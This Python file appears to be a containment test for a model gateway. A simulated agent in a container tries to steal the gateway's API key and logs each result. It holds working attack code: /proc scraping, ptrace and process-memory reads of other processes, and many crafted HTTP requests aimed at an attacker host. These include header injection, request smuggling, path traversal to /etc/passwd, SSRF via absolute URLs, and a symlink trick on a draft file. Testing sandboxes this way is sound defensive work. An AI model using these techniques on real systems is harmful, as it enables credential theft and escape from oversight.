"""An agent behind the model gateway that is after the key; it is run in the container.

It leaves `found.json`: what came of each try.  What it looks for is the key backwards, so that the
key is not found in here.
"""

import base64
import ctypes
import json
import os
import socket
import sys
from pathlib import Path
from urllib.parse import urlsplit

KEY = os.environ["BACKWARDS"][::-1].encode()
EVIL = os.environ["EVIL"]
"""A server of ours, host and port."""
BASE = urlsplit(os.environ["OPENAI_BASE_URL"])
SECRET_PATH = BASE.path.removesuffix("/openai/v1")
CHAT = f"{SECRET_PATH}/openai/v1/chat/completions"
GEMINI = f"{SECRET_PATH}/gemini/v1beta/models"
FORMS = {KEY, base64.b64encode(KEY), KEY.hex().encode(), KEY[:12], KEY[-12:]}
"""The key, as it may be found."""


def holds(data):
    return any(each in data for each in FORMS)


def denied(action, *given):
    """Return the name of the error; `done` if there was none."""
    try:
        action(*given)
    except OSError as exc:
        return type(exc).__name__
    return "done"


# --- Other processes ------------------------------------------------------------------------------

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, PIDFD_OPEN, PIDFD_GETFD, VM_READV = 0x4206, 434, 438, 310


def others():
    """Yield the processes that are not ours."""
    for path in Path("/proc").glob("[0-9]*"):
        try:
            if path.stat().st_uid != os.getuid():
                yield path
        except OSError:
            continue


def traced(pid):
    if libc.ptrace(SEIZE, pid, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def read_remotely(pid):
    """Read the memory of a process without its file."""
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_void_p * 2)(0x400000, 8)
    if libc.syscall(VM_READV, pid, local, 1, remote, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")


def taken(pid):
    """Take a file or a socket out of a process."""
    process = libc.syscall(PIDFD_OPEN, pid, 0)
    for number in range(64):
        if libc.syscall(PIDFD_GETFD, process, number, 0) >= 0:
            return
    raise OSError(ctypes.get_errno(), "pidfd_getfd")


def processes():
    """Try to read and control the processes of others, and return the outcomes."""
    found = {}
    for path in others():
        pid = int(path.name)
        for name, action in {
            "environ": lambda path=path: (path / "environ").read_bytes(),
            "mem": lambda path=path: (path / "mem").open("rb").close(),
            "maps": lambda path=path: (path / "maps").read_text(),
            "files": lambda path=path: [*(path / "fd").iterdir()],
            "root": lambda path=path: (path / "root").readlink(),
            "ptrace": lambda pid=pid: traced(pid),
            "process_vm_readv": lambda pid=pid: read_remotely(pid),
            "pidfd_getfd": lambda pid=pid: taken(pid),
        }.items():
            found.setdefault(name, set()).add(denied(action))
    return {name: sorted(each) for name, each in found.items()}


def places():
    """Return the files, and what the system says of processes, that hold the key."""
    found = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
    for top in ("/github", os.environ["HOME"], "/tmp", "/var/tmp", "/run", "/opt/ci-eval/etc"):
        found += [Path(at, name) for at, _, names in os.walk(top) for name in names]
    holding = []
    for place in found:
        try:
            holding += [str(place)] if place.is_file() and holds(place.read_bytes()) else []
        except OSError:
            continue
    return holding + [name for name, value in os.environ.items() if holds(value.encode())]


# --- The gateway ----------------------------------------------------------------------------------


def sent(raw):
    """Send bytes to the gateway, and return what comes back until it ends."""
    with socket.create_connection((BASE.hostname, BASE.port), 20) as connection:
        connection.sendall(raw)
        found = b""
        try:
            while chunk := connection.recv(65536):
                found += chunk
        except OSError:
            pass
    return found


def asked(target, *headers, method="POST", model="m", body=None, host=BASE.netloc, **more):
    """Return the status of an answer, and whether it holds the key or leads elsewhere."""
    message = {"messages": [{"role": "user", "content": "Hello"}], "model": model, **more}
    data = json.dumps(message).encode() if body is None else body
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]
    lines.append(f"Content-Length: {len(data)}")
    answer = sent("\r\n".join([*lines, "", ""]).encode() + data)
    status = answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/") else "nothing"
    told = [" holds the key"] if holds(answer) else []
    told += [" leads elsewhere"] if b"\r\nlocation:" in answer.lower() else []
    return "".join([status, *told])


STOLEN = "sk-of-the-agent-itself"
NO_BODY = {"method": "CONNECT", "body": b""}
TRIES = {
    "no secret": lambda: asked("/openai/v1/chat/completions"),
    "no path": lambda: asked("/", method="GET", body=b""),
    "another secret": lambda: asked(f"/{'A' * 43}/openai/v1/chat/completions"),
    "absolute form": lambda: asked(f"http://{EVIL}{CHAT}"),
    "absolute form of the gateway": lambda: asked(f"http://{BASE.netloc}{CHAT}"),
    "CONNECT": lambda: asked(EVIL, **NO_BODY),
    "TRACE": lambda: asked(CHAT, method="TRACE", body=b""),
    "GET": lambda: asked(CHAT, method="GET", body=b""),
    "Host": lambda: asked(CHAT, host=EVIL),
    "two Hosts": lambda: asked(CHAT, f"Host: {EVIL}"),
    "forwarded": lambda: asked(
        CHAT,
        f"X-Forwarded-Host: {EVIL}",
        f"Forwarded: host={EVIL};proto=http",
        f"X-Original-URL: http://{EVIL}/",
        "X-Rewrite-URL: /v1/files",
        f"X-Goog-Upload-URL: http://{EVIL}/",
        f"OpenAI-Base-URL: http://{EVIL}/",
        "X-HTTP-Method-Override: GET",
    ),
    "own keys": lambda: asked(
        CHAT,
        f"Authorization: Bearer {STOLEN}",
        f"x-api-key: {STOLEN}",
        f"x-goog-api-key: {STOLEN}",
        f"api-key: {STOLEN}",
        f"Cookie: key={STOLEN}",
        f"Proxy-Authorization: Basic {STOLEN}",
        f"OpenAI-Organization: {STOLEN}",
    ),
    "own key in the query": lambda: asked(f"{GEMINI}/m:generateContent?key={STOLEN}&alt=json"),
    "another address in the query": lambda: asked(
        f"{CHAT}?base_url=http://{EVIL}&alt=http://{EVIL}"
    ),
    "files": lambda: asked(f"{SECRET_PATH}/openai/v1/files"),
    "up": lambda: asked(f"{GEMINI}/../../x:generateContent"),
    "up, encoded": lambda: asked(f"{GEMINI}/%2e%2e/%2e%2e/x:generateContent"),
    "up from the root": lambda: asked(f"{SECRET_PATH}/../../etc/passwd", method="GET", body=b""),
    "slash, encoded": lambda: asked(f"{GEMINI}/a%2f..%2f..%2fb:generateContent"),
    "backslash": lambda: asked(f"{GEMINI}/a\\..\\b:generateContent"),
    "two slashes": lambda: asked(f"{SECRET_PATH}/openai/v1//{EVIL}/chat/completions"),
    "at": lambda: asked(f"{GEMINI}/m@{EVIL}:generateContent"),
    "fragment": lambda: asked(f"{GEMINI}/m:generateContent#@{EVIL}"),
    "line breaks, encoded": lambda: asked(f"{GEMINI}/m%0d%0aHost:%20{EVIL}:generateContent"),
    "line breaks in the query": lambda: asked(
        f"{GEMINI}/m:generateContent?alt=sse%0d%0aX-Evil:%201", model="m"
    ),
    "line breaks in a version": lambda: asked(
        f"{SECRET_PATH}/anthropic/v1/messages", "anthropic-version: 1\r\n x-evil: 1", max_tokens=1
    ),
    "line breaks in the model": lambda: asked(CHAT, model=f"m\r\nHost: {EVIL}\r\n\r\n"),
    "two lengths": lambda: asked(CHAT, "Content-Length: 3"),
    "a length and chunks": lambda: asked(CHAT, "Transfer-Encoding: chunked"),
    "a second request": lambda: asked(
        CHAT, body=b"{}" + f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()
    ),
    "upgrade": lambda: asked(CHAT, "Upgrade: websocket", "Connection: upgrade"),
    "redirected": lambda: asked(CHAT, model="redirects"),
    "reflected": lambda: asked(CHAT, model="reflects"),
    "reflected in a stream": lambda: asked(CHAT, model="reflects", stream=True),
    "reflected in an error": lambda: asked(CHAT, model="refuses"),
    "reflected by Gemini": lambda: asked(f"{GEMINI}/reflects:generateContent", model="m"),
    "what is no JSON": lambda: asked(CHAT, body=b"{"),
    "too long": lambda: asked(CHAT, body=b'"' + b"x" * (17 << 20)),
}


def linked():
    """Try to lead the cassette out of the checkout."""
    name = Path("models.jsonl")
    return {
        "removed": denied(name.unlink),
        "moved": denied(os.rename, name, "moved"),
        "written": denied(lambda: name.open("a").close()),
        # The gateway writes this file before it replaces the cassette.
        "a draft that is a link": denied(os.symlink, "/github/home/key", ".models.jsonl.draft"),
    }


def answer(_message):
    found = {
        "user": os.getuid(),
        "places": places(),
        "processes": processes(),
        "gateway": {name: tried() for name, tried in TRIES.items()},
        "cassette": linked(),
        "places, after that": places(),
    }
    Path("found.json").write_text(json.dumps(found, indent=1))
    return "It is sunny."


if __name__ == "__main__":
    for line in sys.stdin:
        sys.stdout.write(json.dumps({"response": answer(line)}) + "\n")
        sys.stdout.flush()
